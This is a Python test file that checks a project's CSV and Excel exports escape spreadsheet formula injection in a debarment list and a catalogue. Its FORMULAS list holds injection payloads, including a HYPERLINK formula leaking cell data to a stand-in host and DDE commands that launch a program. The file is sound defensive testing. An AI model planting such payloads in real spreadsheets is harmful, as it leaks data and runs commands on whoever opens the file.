"""CSV injection (OWASP): a value that a spreadsheet would run as a formula is written as text
in every CSV the node publishes: the debarment list (a listed organisation names itself
``=HYPERLINK(…)``), the catalogue, and the survey's tables (hgr.spreadsheets)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import pytest

from hgr.audit import Actor
from hgr.db import Database
from hgr.debarment import decide, entries_csv, list_entry, notify, open_case, public_entries
from hgr.spreadsheets import rows_workbook, safe_cell, safe_row

ACTOR = Actor("cli:test", "operator")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula
    assert safe_row([formula, 7, "Example Ltd", None]) == ["'" + formula, 7, "Example Ltd", None]


def test_the_published_debarment_list_escapes_what_an_organisation_calls_itself(
    db: Database,
) -> None:
    # Before, the CSV carried the name as given, and a spreadsheet ran it.
    today = dt.date(2026, 11, 23)
    with db.transaction() as session:
        case = open_case(
            session,
            ACTOR,
            organisation=FORMULAS[0],
            country="GB",
            identifiers=["CH:00000666"],
            regime="uk",
            ground=FORMULAS[3],
            mandatory=True,
            today=today,
        )
        notify(session, ACTOR, case, today=today)
        decide(
            session,
            ACTOR,
            case,
            debar=True,
            reasons=FORMULAS[1],
            expected_end=dt.date(2029, 1, 1),
            today=today,
        )
        list_entry(session, ACTOR, case, today=dt.date(2026, 12, 10))
        rows = public_entries(session, dt.date(2026, 12, 10))
    (row,) = csv.DictReader(io.StringIO(entries_csv(rows)))
    assert row["organisation"] == "'" + FORMULAS[0]
    assert row["ground"] == "'" + FORMULAS[3]
    assert row["reasons"] == "'" + FORMULAS[1]
    assert row["country"] == "GB"  # ordinary text is untouched
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


def test_the_catalogue_export_escapes_a_declared_trait_and_population() -> None:
    from hgr.catalogue import entries
    from hgr.catalogue.models import CatalogueEntry

    entry = CatalogueEntry(
        number="CAT-2026-0001",
        kind="region",
        institution="BJ-H001",
        province="110000",
        subject=FORMULAS[3],
        region="110000",
        condition=None,
        trait=FORMULAS[0],
        generations=None,
        affected=None,
        status="declared",
        protected=False,
        evidence={},
    )
    (row,) = csv.DictReader(io.StringIO(entries.entries_csv([entry])))
    assert (row["subject"], row["trait"]) == ("'" + FORMULAS[3], "'" + FORMULAS[0])
    assert row["institution"] == "BJ-H001"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_keeps_a_formula_as_text(formula: str) -> None:
    """openpyxl would store a value beginning with "=" as a formula; the node's workbooks
    store every text cell as text (hgr.spreadsheets.rows_workbook)."""
    from openpyxl import load_workbook

    data = rows_workbook("listing", [{"name": formula, "n": 7}], ["name", "n"])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    # XML readers turn a carriage return into a line feed; the formula is what follows it.
    assert str(cell.value).lstrip() == formula.lstrip()
    assert sheet.cell(row=2, column=2).value == 7


def test_a_workbook_takes_every_kind_of_cell() -> None:
    """Dates, date-times with a zone (which openpyxl refuses as such), lists, text with
    characters XML cannot carry, and None."""
    from openpyxl import load_workbook

    moment = dt.datetime(2026, 12, 7, 8, 0, tzinfo=dt.UTC)
    row = {"d": dt.date(2026, 1, 2), "t": moment, "l": ["a", "b"], "x": "a\x00b", "n": None}
    data = rows_workbook("a/b:c*d?[e]", [row], list(row))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet.title == "a b c d  e"
    values = [c.value for c in sheet[2]]
    assert values[0] == dt.datetime(2026, 1, 2)
    assert values[1:] == ["2026-12-07 08:00:00+00:00", "a;b", "a b", None]


def test_a_workbook_holds_what_excel_cannot_as_text() -> None:
    """Characters XML cannot carry (U+FFFE, U+FFFF) would leave a file no reader opens again;
    a text longer than a cell holds is cut and says so; NaN and infinity are text."""
    from openpyxl import load_workbook

    row = {"odd": "a\ufffeb\uffffc", "long": "x" * 40_000, "nan": float("nan"), "inf": math.inf}
    sheet = load_workbook(io.BytesIO(rows_workbook("t", [row], list(row)))).active
    assert sheet is not None
    odd, long, nan, inf = (c.value for c in sheet[2])
    assert odd == "a b c"
    assert len(str(long)) == 32_767
    assert str(long).endswith("[cut: the cell held more than Excel keeps]")
    assert (nan, inf) == ("nan", "inf")
